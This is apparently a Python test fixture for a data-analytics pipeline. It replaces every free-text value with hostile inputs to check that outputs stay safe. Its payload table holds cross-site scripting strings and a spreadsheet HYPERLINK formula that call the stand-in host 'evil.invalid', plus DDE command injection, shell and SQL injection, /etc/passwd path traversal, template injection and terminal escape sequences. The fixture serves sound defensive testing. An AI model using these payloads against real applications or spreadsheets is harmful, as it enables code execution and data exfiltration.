"""Hostile texts, and an estate with all of them in every text column of the contract.

The rows are those of the demo city. During extraction each text becomes a hostile one; equal texts become equal ones in
all datasets, so that they still join. Each source of a dataset also gives one row per payload, with that payload in
every text column.
"""

from __future__ import annotations

import itertools
from collections import defaultdict
from typing import Any

import pyarrow as pa
import pytest

from ntanalytics.catalog import Mapping
from ntanalytics.contract import Column, Type
from ntanalytics.extraction import filling
from ntanalytics.extraction.check import CheckedBatch, check

#: A mark that no script of ours sets, and a host that no address of ours has.
MARK, NOWHERE = "pwned", "evil.invalid"

#: Invented numbers of a mobile telephone and of an identity card, with a valid check digit.
TELEPHONE, IDENTITY = "13912345678", "320602199003071236"

#: Name → text around the text of the source.
PAYLOADS = {
    "script": f"<script>window.{MARK}=1;fetch('http://{NOWHERE}/')</script>{{}}",
    "ended script": f"</script></style></title></textarea>--><script>window.{MARK}=1</script>{{}}",
    "picture": f'"><img src=x onerror="window.{MARK}=1">{{}}',
    "drawing": f"<svg/onload=window.{MARK}=1>{{}}",
    "handler": f"\" onmouseover=\"window.{MARK}=1\" autofocus onfocus='window.{MARK}=1' x=\"{{}}",
    "link": f'<a href="javascript:window.{MARK}=1">{{}}</a><a href="http://{NOWHERE}/">x</a>',
    "frame": f'<iframe src="http://{NOWHERE}/"></iframe><base href="http://{NOWHERE}/">{{}}',
    "style": f'<style>@import "http://{NOWHERE}/";*{{{{background:url(http://{NOWHERE}/)}}}}</style>{{}}',
    "address": f"http://{NOWHERE}/{{}} www.{NOWHERE} a@{NOWHERE} javascript:alert(1)",
    "formula": f'=HYPERLINK("http://{NOWHERE}/?"&A1,"{{}}")',
    "command": "+cmd|'/C calc'!A0{}",
    "sum": "@SUM(1+1)*cmd|'/C calc'!A0{}",
    "minus": "-2+3+cmd|'/C calc'!A0{}",
    "tab": "\t=1+1{}",
    "return": "\r=1+1{}",
    "line": "\n=1+1{}",
    "controls": "\x00\x01\x07\x08\x0b\x0c\x1f\x7f\x85\x9b31m{}\ufffe\uffff",
    "screen": "\x1b[2J\x1b[31m{}",
    "terminal link": f"\x1b]8;;http://{NOWHERE}/\x1b\\{{}}\x1b]8;;\x1b\\\x1b]0;{MARK}\x07",
    "bidi": "\u202e{}\u202c\u2066\u2069\u200f\u2028\u2029",
    "path": "../../../../etc/passwd{}",
    "template": "{{{{7*7}}}}{{% raw %}}${{7*7}}<%= 7*7 %>%(asctime)s%s%n{}",
    "shell": f"$(touch {MARK})`touch {MARK}`;touch {MARK}|{{}}",
    "log": "{}\n2026-11-20 09:00:00 [critical ] forged                         level=critical\r\n",
    "sheet": "[]:*?/\\'{}'",
    "coded": "_x0007_{}_x003D_1_x000D_",
    "markup": "[bold red]{}[/bold red][/][link=http://evil.invalid]",
    "markdown": f"# {{}}\n[x](http://{NOWHERE}/) ![x](http://{NOWHERE}/) **b** <@all> | - |",
    "chart": f"%{{{{y}}}}<br><b>{{}}</b><a href='http://{NOWHERE}/'>x</a>$\\sum$&amp;",
    "query": "'; DROP TABLE runs; --{}",
    "empty": "\u3000\u200b{}\ufeff",
    "telephone": f"联系 {TELEPHONE} {{}} +86-{TELEPHONE}",
    "identity": f"{IDENTITY} {{}} 身份证{IDENTITY}",
}  # fmt: skip

#: A text that is longer than a workbook's cell may be; one row a source has it.
LONG = "长" * 40_000

#: A host or a unit is no number: of an enumeration only rows that are rejected can hold one.
_MINE = ("telephone", "identity")


def is_free(column: Column) -> bool:
    """Return whether a column may have any text."""
    return column.type is Type.TEXT and not column.values and not column.is_hashed


class Hostile:
    """A filter between the sources and the check that makes each text hostile.

    Attributes:
        given: dataset and column → the payloads that it held.
    """

    def __init__(self) -> None:
        self.given: dict[str, set[str]] = defaultdict(set)
        self._turn = itertools.cycle(PAYLOADS)
        self._known: dict[str, tuple[str, str]] = {}
        self._begun: set[tuple[str, str]] = set()

    def text(self, plain: str) -> tuple[str, str]:
        """Return the name of a payload, and a text with it; equal texts give equal results."""
        if plain not in self._known:
            name = next(self._turn)
            self._known[plain] = name, PAYLOADS[name].format(plain)
        return self._known[plain]

    def batch(self, batch: pa.RecordBatch, mapping: Mapping, source: str) -> pa.RecordBatch:
        """Return a batch with hostile texts."""
        dataset = mapping.dataset
        names = {name.lower(): name for name in batch.schema.names}
        given = [column for column in dataset.mapped if column.name not in mapping.absent]
        free = [column.name for column in given if is_free(column)]
        worded = [each.name for each in given if each.type is Type.TEXT and each.values]
        columns = {name: batch.column(written) for name, written in names.items()}
        for name in free:
            texts = columns[name].cast(pa.string())
            encoded = texts.dictionary_encode()
            made = [self.text(each) for each in encoded.dictionary.to_pylist()]
            self.given[f"{dataset.name}.{name}"].update(payload for payload, _ in made)
            columns[name] = pa.array([text for _, text in made], pa.string()).take(encoded.indices)
        for name in worded:  # a product may have a number for a word
            columns[name] = columns[name].cast(pa.string())
        poisoned = pa.table(columns)
        if batch.num_rows and (dataset.name, source) not in self._begun and (free or worded):
            self._begun.add((dataset.name, source))
            poisoned = pa.concat_tables([poisoned, *self._rows(poisoned, dataset.name, free, worded)])
        whole = poisoned.combine_chunks()
        return pa.RecordBatch.from_arrays([_one(whole[name]) for name in whole.column_names], whole.column_names)

    def _rows(self, rows: pa.Table, dataset: str, free: list[str], worded: list[str]) -> list[pa.Table]:
        """Return copies of the first row, one per payload, and rows with a number in an enumeration."""
        made = []
        for name, payload in [*PAYLOADS.items(), ("long", LONG + "{}")]:
            texts = {column: payload.format("甲") for column in free}
            if texts:
                made.append(_like(rows, texts))
                for column in free:
                    self.given[f"{dataset}.{column}"].add(name)
        for name in _MINE:
            made += [_like(rows, {column: PAYLOADS[name].format("乙")}) for column in worded]
        return made


def _like(rows: pa.Table, texts: dict[str, str]) -> pa.Table:
    """Return the first row with other texts."""
    row = rows.slice(0, 1)
    for name, text in texts.items():
        place = row.column_names.index(name)
        row = row.set_column(place, name, pa.array([text], pa.string()).cast(row.schema.field(name).type))
    return row


def _one(column: pa.ChunkedArray) -> pa.Array:
    return column.chunk(0) if column.num_chunks else pa.array([], column.type)


def let_in(monkeypatch: pytest.MonkeyPatch) -> Hostile:
    """Make every source of this process give hostile texts from now on."""
    hostile = Hostile()

    def checked(batch: pa.RecordBatch, mapping: Mapping, source: Any, **named: Any) -> CheckedBatch:
        return check(hostile.batch(batch, mapping, source.name), mapping, source, **named)

    monkeypatch.setattr(filling, "check", checked)
    return hostile
